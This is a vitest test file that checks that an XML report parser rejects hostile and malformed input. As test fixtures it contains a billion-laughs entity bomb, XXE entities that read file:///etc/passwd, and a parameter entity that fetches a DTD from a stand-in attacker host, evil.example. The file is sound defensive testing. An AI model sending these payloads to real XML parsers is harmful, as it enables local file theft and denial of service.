import { describe, expect, it } from 'vitest';
import { isVigilError, type VigilError } from '../../../functions/core/errors';
import { parseCobertura } from '../../../functions/core/formats/cobertura';
import { parseJunit } from '../../../functions/core/formats/junit';
import { readXml, type XmlVisitor } from '../../../functions/core/formats/xml';
import { cpuMs } from '../../helpers/cpu-time';

/** Run a parser expected to reject its input; return the error and the CPU time it took. */
const rejected = (fn: () => unknown): { error: VigilError; ms: number } => {
  const { value: error, ms } = cpuMs(() => {
    try {
      fn();
    } catch (e) {
      return e;
    }
    throw new Error('expected the input to be rejected');
  });
  if (isVigilError(error)) return { error, ms };
  throw error;
};

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuites><testsuite name="&lol9;"><testcase name="&lol9;"/></testsuite></testsuites>`;

describe('hostile XML', () => {
  it('rejects billion-laughs entity expansion at the DOCTYPE', () => {
    // Act
    const { error, ms } = rejected(() => parseJunit(BILLION_LAUGHS));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toContain(
      'DOCTYPE declarations with an internal subset are not accepted',
    );
    expect(error.message).toContain('line 2');
    expect(error.location?.line).toBe(2);
    expect(ms).toBeLessThan(500);
  });

  it('rejects an external entity pointing at a local file', () => {
    // Prepare
    const text =
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><testsuites><testcase name="&e;"/></testsuites>';

    // Act
    const { error } = rejected(() => parseJunit(text));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toContain('DOCTYPE');
    expect(error.message).not.toContain('root:');
  });

  it('rejects parameter entities, also with a PUBLIC id and after comments', () => {
    // Prepare
    const text = `<?xml version="1.0"?>
<!-- a comment -->
<?pi data?>
<!DOCTYPE coverage PUBLIC "-//x//EN" "http://evil.example/x.dtd" [
  <!ENTITY % remote SYSTEM "http://evil.example/steal.dtd">
  %remote;
]>
<coverage/>`;

    // Act
    const { error } = rejected(() => parseCobertura(text));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toContain(
      'DOCTYPE declarations with an internal subset are not accepted',
    );
    expect(error.location?.line).toBe(4);
  });

  it('does not resolve entities declared in an external DTD', () => {
    // Prepare: the DTD is never read, so &e; stays undefined.
    const text =
      '<!DOCTYPE testsuites SYSTEM "file:///etc/passwd"><testsuites><testcase name="&e;"/></testsuites>';

    // Act
    const { error } = rejected(() => parseJunit(text));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toContain('undefined entity &e;');
    expect(error.location).toEqual({ line: 1, column: 80 }); // the ";" of &e;
  });

  it('fails fast on 100,000 levels of nesting', () => {
    // Prepare
    const text = `<testsuites>${'<testsuite>'.repeat(100_000)}${'</testsuite>'.repeat(100_000)}</testsuites>`;

    // Act
    const { error, ms } = rejected(() => parseJunit(text));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toContain('XML nesting is deeper than 200 levels');
    expect(ms).toBeLessThan(500);
  });

  it('applies a custom depth limit', () => {
    // Prepare
    const visitor = { open: () => false, close: () => {} };
    const options = { format: 'test', roots: ['a'], maxDepth: 3 };

    // Act
    const ok = () => readXml('<a><a><a/></a></a>', visitor, options);
    const { error } = rejected(() => readXml('<a><a><a><a/></a></a></a>', visitor, options));

    // Assess
    expect(ok).not.toThrow();
    expect(error.message).toContain('deeper than 3 levels');
  });

  it('rejects an HTML error page', () => {
    // Prepare
    const page =
      '<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center></body></html>';

    // Act
    const { error } = rejected(() => parseJunit(page));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toContain('HTML page');
  });

  it('rejects an HTML page without a DOCTYPE, even given to the cobertura parser', () => {
    // Prepare
    const page = '  <html lang=en><body><p>Sign in</body></html>';

    // Act
    const { error } = rejected(() => parseCobertura(page));

    // Assess
    expect(error.message).toContain('Not a Cobertura XML report: the input is an HTML page');
  });

  it('rejects an empty string and whitespace', () => {
    // Act
    const empty = rejected(() => parseJunit('')).error;
    const blank = rejected(() => parseJunit(' \n\t\r\n ')).error;

    // Assess
    expect(empty.code).toBe('invalid_report');
    expect(empty.message).toBe('The JUnit XML report is empty.');
    expect(blank.message).toBe('The JUnit XML report is empty.');
  });

  it('rejects text that is not XML, and JSON', () => {
    // Act
    const text = rejected(() => parseJunit('\n  PASS src/a.test.ts\n  Tests: 3 passed')).error;
    const json = rejected(() => parseJunit('{"numTotalTests": 3}')).error;

    // Assess
    expect(text.code).toBe('invalid_report');
    expect(text.message).toContain('does not start with "<"');
    expect(text.message).toContain('PASS src/a.test.ts');
    expect(text.location).toEqual({ line: 2, column: 3 });
    expect(json.message).toContain('looks like JSON');
  });

  it('clips a long line of non-XML text in the message', () => {
    // Act
    const { error } = rejected(() =>
      parseJunit('this is a long line of text that is definitely not xml at all'),
    );

    // Assess
    expect(error.message).toBe(
      'Not a JUnit XML report: it does not start with "<" (starts with "this is a long line of text that is def…").',
    );
  });

  it('rejects a prolog whose PI or comment never ends', () => {
    // Act
    const errors = [
      '<?xml version="1.0"?><?pi never closed',
      '<!-- never closed <testsuites/>',
    ].map((t) => rejected(() => parseJunit(t)).error);

    // Assess
    expect(errors.map((e) => e.message)).toEqual([
      'Malformed XML at line 1, column 38: document must contain a root element.',
      'Malformed XML at line 1, column 31: document must contain a root element.',
    ]);
  });

  it('rejects an undefined entity whose name is too long to quote', () => {
    // Prepare
    const text = `<testsuites><testsuite name="&${'a'.repeat(45)};"/></testsuites>`;

    // Act
    const { error } = rejected(() => parseJunit(text));

    // Assess
    expect(error.message).toBe(
      'Malformed XML at line 1, column 76: undefined entity (only &amp; &lt; &gt; &quot; &apos; and character references are allowed)',
    );
  });

  it('rejects a truncated file with the line where it ends', () => {
    // Prepare
    const text =
      '<?xml version="1.0"?>\n<testsuites>\n  <testsuite name="s">\n    <testcase name="a">\n      <failure message="x">stack';

    // Act
    const { error } = rejected(() => parseJunit(text));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toBe(
      'Truncated XML: the document ends at line 5 inside <failure> (opened at line 5); 4 elements are still open, the outermost <testsuites>.',
    );
    expect(error.location?.line).toBe(5);
  });

  it('rejects a document cut inside a tag', () => {
    // Prepare
    const text = '<testsuite name="s">\n<testcase name="a';

    // Act
    const { error } = rejected(() => parseJunit(text));

    // Assess
    expect(error.message).toBe(
      'Truncated XML: the document ends at line 2 inside <testsuite> (opened at line 1).',
    );
  });

  it('rejects a <coverage> root given to parseJunit, naming the root', () => {
    // Prepare
    const text = '<?xml version="1.0"?>\n<coverage line-rate="1"><packages/></coverage>';

    // Act
    const { error } = rejected(() => parseJunit(text));

    // Assess
    expect(error.code).toBe('invalid_report');
    expect(error.message).toBe(
      'Not a JUnit XML report: the root element is <coverage>, expected <testsuites> or <testsuite>.',
    );
    expect(error.location?.line).toBe(2);
  });

  it('rejects attribute-heavy garbage quickly', () => {
    // Prepare
    const unquoted = `<testsuites ${Array.from({ length: 50_000 }, (_, i) => `a${i}="${i}"`).join(' ')} b=c>`;
    const duplicate = `<testsuites>${'<testcase name="x" '.repeat(1)}${'time="1" '.repeat(20_000)}/></testsuites>`;
    const noValue = '<testsuites name="a" time tests="3"/>';

    // Act
    const results = [unquoted, duplicate, noValue].map((t) => rejected(() => parseJunit(t)));

    // Assess
    expect(results.map((r) => r.error.code)).toEqual([
      'invalid_report',
      'invalid_report',
      'invalid_report',
    ]);
    expect(results[0]?.error.message).toContain('unquoted attribute value');
    expect(results[1]?.error.message).toContain('duplicate attribute: time');
    expect(results[2]?.error.message).toContain('attribute without value');
    for (const r of results) expect(r.ms).toBeLessThan(1_000);
  });

  it('rejects mismatched and stray closing tags with a line number', () => {
    // Prepare
    const mismatched = '<testsuites>\n  <testsuite>\n  </testcase>\n</testsuites>';
    const twoRoots = '<testsuites/>\n<testsuites/>';
    const badChar = '<testsuites>\n<testcase name="a\u0001"/></testsuites>';

    // Act
    const errors = [mismatched, twoRoots, badChar].map((t) => rejected(() => parseJunit(t)).error);

    // Assess
    expect(errors[0]?.message).toBe(
      'Malformed XML at line 3, column 13: unexpected close tag (</testcase> does not match the open <testsuite>)',
    );
    expect(errors[1]?.message).toContain('Malformed XML at line 2');
    expect(errors[1]?.message).toContain('only one root');
    expect(errors[2]?.message).toContain('Malformed XML at line 2');
    expect(errors[2]?.message).toContain('disallowed character');
  });
});

describe('readXml attributes', () => {
  /** Every attribute asked for, per element, as the visitor saw it. */
  const collect = (text: string): string[] => {
    const seen: string[] = [];
    const names = ['name', 'time', 'classname', 'message', 'missing', 'x:y'];
    const visitor: XmlVisitor = {
      open(name, a, depth) {
        seen.push(`${depth} ${name} ${names.map((n) => `${n}=${a.get(n) ?? '-'}`).join(' ')}`);
        return false;
      },
      close() {},
    };
    readXml(text, visitor, { format: 'test', roots: ['testsuites'] });
    return seen;
  };

  it('reads attributes with entities decoded and whitespace normalised', () => {
    // Prepare
    const text = `<testsuites name="all">
      <testsuite name='s' time="1.5" x:y="ns">
        <testcase classname="c" name="a &amp; b" time="0.1"><failure message="l1&#10;l2"/></testcase>
        <testcase name="tab	newline
end"/>
        <testcase/>
      </testsuite>
    </testsuites>`;

    // Act
    const fast = collect(text);

    // Assess
    expect(fast[2]).toBe('3 testcase name=a & b time=0.1 classname=c message=- missing=- x:y=-');
    expect(fast[3]).toBe('4 failure name=- time=- classname=- message=l1\nl2 missing=- x:y=-');
    expect(fast[4]).toContain('name=tab newline end'); // attribute whitespace is normalised
  });

  it('rejects duplicate attributes, short and long lists', () => {
    // Prepare
    const short = '<testsuites><testcase name="a" time="1" name="b"/></testsuites>';
    const long = `<testsuites><testcase ${Array.from({ length: 40 }, (_, i) => `a${i}="1"`).join(' ')} a7="2"/></testsuites>`;

    // Act
    const messages = [short, long].map((t) => rejected(() => collect(t)).error.message);

    // Assess
    expect(messages).toEqual([
      'Malformed XML at line 1, column 50: duplicate attribute: name.',
      expect.stringContaining('duplicate attribute: a7.'),
    ]);
  });
});
